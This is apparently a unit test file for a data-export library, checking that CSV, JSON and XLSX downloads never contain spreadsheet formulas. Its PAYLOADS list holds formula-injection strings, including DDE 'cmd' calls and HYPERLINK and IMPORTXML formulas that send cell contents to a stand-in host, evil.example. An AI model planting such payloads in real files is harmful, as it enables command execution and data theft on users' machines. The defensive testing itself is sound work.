"""No download may carry a formula, whatever a job's rows, headers and nested values hold (ASVS 5.0 1.2.10)."""

import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shared.export.csv import export_csv
from shared.export.json import export_json
from shared.export.sanitise import _NUMBER_OR_PHONE
from shared.export.sheet import Sheet
from shared.export.workbook import WorkbookWriter
from shared.export.xlsx import export_xlsx
from tests.unit.export.reading import pages_of, read_csv, read_json, read_xlsx, values, whole

STARTERS = "=+-@\t\r\0＝＋－＠"
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "\x01=1+1",
    "＝1+1",
    "＋1+cmd",
    "－1+cmd",
    "＠SUM(1)",
    'x";=1+1;"',
    'x"\r\n=1+1;"y',
    "+33 1 23\n=1+1",
]


def is_formula(text):
    return text[:1] in tuple(STARTERS) and text != "" and not _NUMBER_OR_PHONE.fullmatch(text)


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from strings(key)
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_csv(payload):
    content = await whole(export_csv([payload, "liste"], pages_of([{payload: payload, "liste": [payload]}]), ["liste"]))
    lines = read_csv(content)
    assert [len(line) for line in lines] == [2, 2]
    assert not any(is_formula(cell) for line in lines for cell in line)
    assert payload in lines[1][0]


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_json(payload):
    content = await whole(export_json([payload, "n"], pages_of([{payload: payload, "n": {payload: [payload]}}])))
    assert not any(is_formula(text) for text in strings(read_json(content)))


async def test_xlsx():
    columns = ["nom", "liste", *PAYLOADS]
    rows = [{"nom": payload, "liste": [payload], PAYLOADS[0]: {payload: payload}} for payload in PAYLOADS]
    content = await whole(export_xlsx(columns, pages_of(rows), ["liste"]))
    [sheet] = read_xlsx(content)
    assert {cell.data_type for row in sheet for cell in row if cell.value is not None} == {"s"}
    assert not any(is_formula(text) for row in values(sheet) for text in row if text)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            assert b"<f>" not in parts.read(name), f"a formula in {name}"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(max_size=40) | st.sampled_from(PAYLOADS), min_size=1, max_size=20))
def test_any_text_in_a_workbook_is_text(tmp_path, texts):
    writer = WorkbookWriter(Sheet(["a"], []))
    for text in texts:
        writer.append([text])
    path = tmp_path / "book.xlsx"
    writer.save(str(path))
    [sheet] = read_xlsx(path.read_bytes())
    assert len(sheet) == len(texts) + 1
    for [cell] in sheet[1:]:
        assert cell.value is None or (cell.data_type == "s" and not is_formula(cell.value))
